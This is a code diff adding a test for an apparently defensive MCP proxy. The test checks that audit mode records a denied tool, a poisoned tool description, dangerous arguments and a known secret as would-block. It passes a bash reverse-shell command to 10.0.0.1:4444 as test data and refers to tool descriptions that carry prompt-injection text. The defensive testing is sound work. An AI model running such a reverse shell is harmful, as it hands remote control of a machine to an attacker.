@@ -287,6 +287,45 @@ describe("rug pulls in audit mode", () => {
   );
 });
 
+describe("audit mode: tool policy, poisoned tools, arguments and secrets", () => {
+  test(
+    "a denied tool, a poisoned tool, dangerous arguments and a secret all reach the server; each is recorded as would-block, never its text",
+    async () => {
+      const auditConfig = join(dir, "audit-judges.yaml");
+      const auditRecords = join(dir, "audit-judges-records.jsonl");
+      writeFileSync(
+        auditConfig,
+        `version: 1\nmode: audit\ndlp:\n  known_secrets: { env: [SLUICE_TEST_SECRET] }\naudit: { file: ${JSON.stringify(auditRecords)} }\nmcp:\n  baselines_file: ${JSON.stringify(join(dir, "audit-judges-pins.sqlite"))}\n  servers:\n    - { name: audit-policy, deny_tools: ["weather"] }\n`,
+      );
+      const s = await connect(["--name", "audit-policy"], "a", auditConfig);
+      expect((await s.client.listTools()).tools.map((t) => t.name).sort()).toEqual(["add", "answer", "crash", "echo", "env", "hang", "weather"]);
+      expect(text(await s.client.callTool({ name: "weather", arguments: { city: "Oslo" } }))).toBe("Sunny in Oslo.");
+      expect(text(await s.client.callTool({ name: "add", arguments: { a: 1, b: 2 } }))).toBe("3");
+      const shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+      expect(text(await s.client.callTool({ name: "echo", arguments: { text: shell } }))).toBe(shell);
+      await s.client.callTool({ name: "echo", arguments: { text: `my key is ${SECRET}` } });
+      expect(calls(s).map((c) => c.tool)).toEqual(["weather", "add", "echo", "echo"]);
+      await s.client.close();
+      const written = readFileSync(auditRecords, "utf8");
+      const lines = written.trim().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
+      const flagged = lines.filter((l) => l.would_block === true);
+      for (const l of flagged) expect(l.verdict).toBe("allow");
+      expect(lines.some((l) => l.verdict === "block")).toBe(false);
+      const find = (method: string, tool: string, rule: (r: string) => boolean) => flagged.find((l) => l.method === method && l.tool === tool && rule(String(l.rule)));
+      expect(find("tools/list", "weather", (r) => r === "mcp.tool-denied")).toMatchObject({ reason: "deny_listed" });
+      expect(find("tools/call", "weather", (r) => r === "mcp.tool-denied")).toMatchObject({ direction: "client", reason: "deny_listed" });
+      const poisoned = find("tools/call", "add", (r) => r === "mcp.tool-withheld");
+      expect(poisoned).toMatchObject({ direction: "client", reason: "injection_detected" });
+      expect(String(poisoned!.detail)).toMatch(/mcp\.[a-z-]+/);
+      expect(find("tools/call", "echo", (r) => r.startsWith("mcp.arg-"))).toMatchObject({ direction: "client", reason: "dangerous_arguments" });
+      expect(find("tools/call", "echo", (r) => r === "dlp.known-secret")).toMatchObject({ direction: "client", reason: "dlp_finding" });
+      expect(written).not.toContain(SECRET);
+      expect(written).not.toContain("<IMPORTANT>");
+    },
+    T,
+  );
+});
+
 describe("a real MCP server from npm (@modelcontextprotocol/server-filesystem) behind sluice", () => {
   test(
     "every tool is listed (none taken for poisoned), a read works, a secret read back or written out is refused",
